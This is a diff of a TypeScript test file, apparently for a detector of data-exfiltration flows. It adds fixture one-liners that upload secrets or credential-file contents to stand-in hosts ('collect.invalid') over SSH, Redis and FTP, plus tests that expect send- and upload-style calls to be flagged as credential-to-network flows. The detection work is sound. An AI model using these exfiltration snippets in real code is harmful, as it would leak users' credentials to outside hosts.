@@ -17,6 +17,11 @@ const GIVEN_AWAY: Readonly<Record<string, string>> = {
     'collect.invalid',
   [`const C = require('ssh2-sftp-client'), c = new C(); c.connect({ host: '203.0.113.40', username: 'd' }).then(() => c.put(Buffer.from(s), '/in/1'));`]:
     '203.0.113.40',
+  [`const { NodeSSH } = require('node-ssh'), c = new NodeSSH(); c.connect({ host: 'collect.invalid' }).then(() => c.putFile(rc, '/k'));`]:
+    'collect.invalid',
+  [`const { Client } = require('@notionhq/client'); new Client({ auth: 'x' }).pages.create({ children: [s] });`]:
+    'api.notion.com',
+  [`const R = require('ioredis'), r = new R('redis://collect.invalid'); r.lpush('k', s);`]: 'collect.invalid',
   [`(async () => { const { Client } = require('basic-ftp'), c = new Client(); await c.access({ host: 'collect.invalid' }); await c.uploadFrom(rc, 'a'); })();`]:
     'collect.invalid',
 };
@@ -54,6 +59,15 @@ describe('clients of services', () => {
       'workflow-written import',
     ]);
     assert.deepEqual(behavioursOf(`${fetched});`), []);
+  });
+
+  it('of whatever kind are given what opens accounts, as far as nobody has asked for that', () => {
+    const hand = (method: string, what = 's'): readonly string[] =>
+      flowsOf(`require('some-service').client().${method}(${what});`);
+    for (const method of ['send', 'publish', 'sendToQueue', 'upload', 'putObject'])
+      assert.ok(hand(method).includes('credential-file>network'), method);
+    for (const method of ['parse', 'log', 'set', 'create']) assert.deepEqual(hand(method), [], method);
+    assert.deepEqual(hand('send', `process.env.HOME`), []);
   });
 
   it('are given nothing by being made or asked', () => {
